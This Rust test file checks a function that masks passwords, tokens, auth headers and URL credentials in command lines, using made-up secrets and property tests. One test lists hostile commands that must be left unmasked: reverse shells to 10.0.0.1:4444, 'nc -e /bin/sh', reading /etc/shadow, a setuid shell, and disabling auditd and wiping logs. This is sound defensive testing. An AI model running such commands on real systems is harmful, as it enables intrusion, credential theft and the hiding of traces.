//! Tests of what is masked in command lines, and of what must not be.
//! Each secret here is made up.

mod arguments;
mod programs;
mod rules;
mod scripts;

use super::*;
use proptest::prelude::*;

fn arguments(line: &[&str]) -> String {
    redact_arguments(line.iter().copied())
}

fn check(command: &str, expected: &str) {
    assert_eq!(redact_command(command), expected, "{command}");
    assert_eq!(redact_command(expected), expected, "a second look");
}

#[test]
fn a_secret_whose_quotes_are_never_closed_is_masked_to_the_end() {
    for (command, expected) in [
        ("app --password='hunter 2 and more", "app --password='***"),
        ("app --password 'hunter 2 and more", "app --password ***"),
        (
            r#"sh -c "app --token='hunter 2" x"#,
            r#"sh -c "app --token='***" x"#,
        ),
        (
            r#"curl -d {"pas: "x y"w, "a": {"secret":'"b c: hunter 2"}} h"#,
            r#"curl -d {"pas: "x y"w, "a": {"secret":'***"#,
        ),
    ] {
        check(command, expected);
    }
    // Each argument of a program ends by itself.
    let list = arguments(&["app", "--password='hunter", "--token", "'2", "x"]);
    assert_eq!(list, "app --password=*** --token *** x");
}

#[test]
fn secrets_behind_names_are_masked() {
    for (command, expected) in [
        ("app --password=hunter2 x", "app --password=*** x"),
        ("app --password hunter2 x", "app --password *** x"),
        (
            "app --db-password 'hunter 2' x",
            "app --db-password '***' x",
        ),
        ("PGPASSWORD=hunter2 psql -h db", "PGPASSWORD=*** psql -h db"),
        (
            "env AWS_SECRET_ACCESS_KEY=abc/def+1 aws s3 ls",
            "env AWS_SECRET_ACCESS_KEY=*** aws s3 ls",
        ),
        (
            "app --api-key=abc --tokens=5",
            "app --api-key=*** --tokens=5",
        ),
        ("vault login -token s.abc", "vault login -token ***"),
        (
            "openssl enc -pass pass:abc -in x",
            "openssl enc -pass *** -in x",
        ),
        (
            "openssl rsa -passin pass:abc -in x",
            "openssl rsa -passin pass:*** -in x",
        ),
        (
            "curl 'https://h/?token=abc&page=2'",
            "curl 'https://h/?token=***&page=2'",
        ),
        (
            r#"curl -d {"user":"bob","password":"x"} h"#,
            r#"curl -d {"user":"bob","password":"***"} h"#,
        ),
        (
            r#"curl -d '{"password": "x y", "a": 1}' h"#,
            r#"curl -d '{"password": "***", "a": 1}' h"#,
        ),
    ] {
        check(command, expected);
    }
}

#[test]
fn headers_lose_what_follows_the_scheme() {
    for (command, expected) in [
        (
            "curl -H 'Authorization: Bearer abc' h",
            "curl -H 'Authorization: Bearer ***' h",
        ),
        (
            "curl -H Authorization: Basic YTpi h",
            "curl -H Authorization: Basic *** h",
        ),
        (
            "curl -H Authorization:Bearer abc h",
            "curl -H Authorization:Bearer *** h",
        ),
        (
            "curl -H 'authorization: abc' h",
            "curl -H 'authorization: ***' h",
        ),
        ("curl -H X-Api-Key: abc h", "curl -H X-Api-Key: *** h"),
        ("curl -H 'Cookie: sid=abc' h", "curl -H 'Cookie: ***' h"),
    ] {
        check(command, expected);
    }
    assert_eq!(
        arguments(&["curl", "-H", "Authorization: Bearer abc", "h"]),
        "curl -H Authorization: Bearer *** h"
    );
}

#[test]
fn programs_whose_short_flags_carry_secrets_are_known() {
    for (command, expected) in [
        (
            "sshpass -p hunter2 ssh -p 22 h",
            "sshpass -p *** ssh -p 22 h",
        ),
        (
            "/usr/bin/sshpass -phunter2 ssh h",
            "/usr/bin/sshpass -p*** ssh h",
        ),
        ("mysql -uroot -phunter2 db", "mysql -uroot -p*** db"),
        ("mysql -u root -p db", "mysql -u root -p db"),
        (
            "sudo mysqldump -phunter2 db | gzip -p",
            "sudo mysqldump -p*** db | gzip -p",
        ),
        (
            "curl -u bob:hunter2 https://h/",
            "curl -u bob:*** https://h/",
        ),
        ("curl -u bob https://h/", "curl -u bob https://h/"),
        (
            "smbclient -U dom/bob%hunter2 //h/c",
            "smbclient -U dom/bob%*** //h/c",
        ),
        ("redis-cli -h db -a hunter2", "redis-cli -h db -a ***"),
        (
            "ldapsearch -x -w hunter2 -b dc=x",
            "ldapsearch -x -w *** -b dc=x",
        ),
        ("useradd -m -p $6$abc bob", "useradd -m -p *** bob"),
        ("sh -c 'mysql -phunter2 db'", "sh -c 'mysql -p*** db'"),
        (
            "sh -c \"su -c 'mysql -phunter2 db'\"",
            "sh -c \"su -c 'mysql -p*** db'\"",
        ),
    ] {
        check(command, expected);
    }
}

#[test]
fn passwords_in_addresses_and_tokens_by_their_form_are_masked() {
    for (command, expected) in [
        (
            "git clone https://bob:hunter2@h/r.git",
            "git clone https://bob:***@h/r.git",
        ),
        (
            "psql postgres://u:p@ss@db:5432/x",
            "psql postgres://u:***@db:5432/x",
        ),
        (
            "secretsdump.py dom/bob:hunter2@10.0.0.1",
            "secretsdump.py dom/bob:***@10.0.0.1",
        ),
        ("git clone git@h:org/r.git", "git clone git@h:org/r.git"),
        (
            "docker pull nginx:1@sha256:abc",
            "docker pull nginx:1@sha256:abc",
        ),
        ("x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln y", "x *** y"),
        ("echo AKIAIOSFODNN7EXAMPLE", "echo ***"),
        ("gh ghp_0123456789abcdefghijABCDEFGHIJ012345", "gh ***"),
    ] {
        check(command, expected);
    }
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----";
    assert_eq!(arguments(&["tee", key]), "tee ***");
    let behind_another = format!("the end of a PRIVATE KEY-----\n-----BEGIN X-----\n{key}");
    assert_eq!(
        redact_command(&behind_another),
        "the end of a PRIVATE KEY-----\n-----BEGIN X-----\n***"
    );
}

#[test]
fn what_rules_look_for_is_left_alone() {
    for command in [
        "bash -p",
        "nc -l -p 4444 -e /bin/sh",
        "cat /etc/passwd /etc/shadow",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "chmod u+s /tmp/sh; chown root:root /tmp/sh",
        "passwd bob",
        "ssh -o PasswordAuthentication=no -p 2222 bob@h",
        "ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519",
        "find / -name id_rsa -o -name '*.pem'",
        "curl --cacert /x --key /etc/ssl/private/k.pem https://h",
        "docker run -v /etc/passwd:/mnt alpine",
        "sudo -l; unset HISTFILE; export HISTFILE=/dev/null PWD=/root",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
        "systemctl stop auditd && rm -rf /var/log/*",
        "git log --author=bob --since=2.days",
    ] {
        check(command, command);
    }
}

#[test]
fn a_secret_with_spaces_is_one_argument() {
    assert_eq!(
        arguments(&["app", "--password", "my own secret", "--host", "h"]),
        "app --password *** --host h"
    );
    assert_eq!(
        arguments(&["sh", "-c", "mysql -phunter2 db", "-p"]),
        "sh -c mysql -p*** db -p"
    );
    assert_eq!(
        arguments(&["app", "--password", "--host", "h"]),
        "app --password --host h"
    );
}

/// Ways to write a secret on a command line.
const CARRIERS: [&str; 24] = [
    "app --password {} x",
    "app --password={} x",
    "app -token {} x",
    "app --client-secret \"{}\" x",
    "APP_TOKEN={} app",
    "env DB_PASSWORD='{}' app",
    "sshpass -p {} ssh h",
    "sshpass -p{} ssh h",
    "mysql -u root -p{} db",
    "sudo -u root mysqldump --password={} db",
    "curl -u user:{} https://h/",
    "curl -H 'Authorization: Bearer {}' https://h/",
    "curl -H Authorization: Token {} https://h/",
    "curl https://user:{}@h/path",
    "curl https://h/?access_token={}&x=1",
    "psql postgresql://user:{}@db/x",
    "sh -c 'PGPASSWORD={} psql'",
    "sh -c \"sshpass -p {} ssh h\"",
    "curl -d '{\"password\":\"{}\"}' h",
    "redis-cli -a {} ping",
    "ldapsearch -w {} -x",
    "smbclient -U user%{} //h/c",
    "openssl enc -k {} -in x",
    "app passphrase: {} end",
];

/// The arguments that a shell makes of a command without quotes in quotes.
fn arguments_of(command: &str) -> Vec<String> {
    words::split(command)
        .filter_map(|piece| match piece {
            words::Piece::Word(word) if word.starts_with(['"', '\'']) => Some(bare(word)),
            words::Piece::Word(word) => Some(word),
            words::Piece::Space(_)
            | words::Piece::Interrupted(_)
            | words::Piece::Begin(_)
            | words::Piece::End(_) => None,
        })
        .map(|word| word.replace("='", "=").trim_end_matches('\'').to_owned())
        .collect()
}

proptest! {
    #[test]
    fn no_secret_of_a_known_form_survives(
        carrier in 0..CARRIERS.len(),
        secret in "[A-Za-z0-9][A-Za-z0-9+_.^%*!~-]{7,40}",
    ) {
        let command = CARRIERS[carrier].replace("{}", &secret);

        let shown = redact_command(&command);
        let words = arguments_of(&command);
        let shown_arguments = redact_arguments(words.iter().map(String::as_str));

        prop_assert!(!shown.contains(&secret), "{shown}");
        // A header and its value are one argument, or no shell has cut them.
        let is_cut = words.iter().any(|word| word.ends_with(':'));
        prop_assert!(is_cut || !shown_arguments.contains(&secret), "{shown_arguments}");
        prop_assert!(!redact_joined(&words.join(" ")).contains(&secret));
    }

    #[test]
    fn no_argument_that_is_a_secret_survives_whatever_is_in_it(
        carrier in 0..CARRIERS.len(),
        secret in "[A-Za-z0-9][ -~é\n]{7,40}",
    ) {
        let words = arguments_of(CARRIERS[carrier]);
        let is_text = words.iter().any(|word| {
            word.ends_with(':')
                || word.contains("{}")
                    && (word.contains("://") || word.contains([' ', '"']) && !word.contains(": "))
        });
        prop_assume!(!is_text && !secret.contains("$("));
        let words: Vec<String> = words.iter().map(|word| word.replace("{}", &secret)).collect();

        let shown = redact_arguments(words.iter().map(String::as_str));

        prop_assert!(!shown.contains(secret.get(1..).unwrap_or(&secret)), "{shown}");
    }

    #[test]
    fn any_text_is_taken_and_a_second_look_changes_nothing(
        text in "([ \t'\"=:@,;&|{}/-]|--?(password|token|p|u)|user|secret|Authorization|Bearer|mysql|curl|\\PC){0,40}",
    ) {
        let once = redact_command(&text);

        prop_assert_eq!(&redact_command(&once), &once);
        prop_assert!(once.len() <= 3 * text.len() + MASK.len());
    }

    #[test]
    fn arguments_without_secrets_are_joined_by_spaces(words in proptest::collection::vec("[a-z/.]{1,12}", 0..12)) {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();

        prop_assert_eq!(arguments(&words), words.join(" "));
    }
}
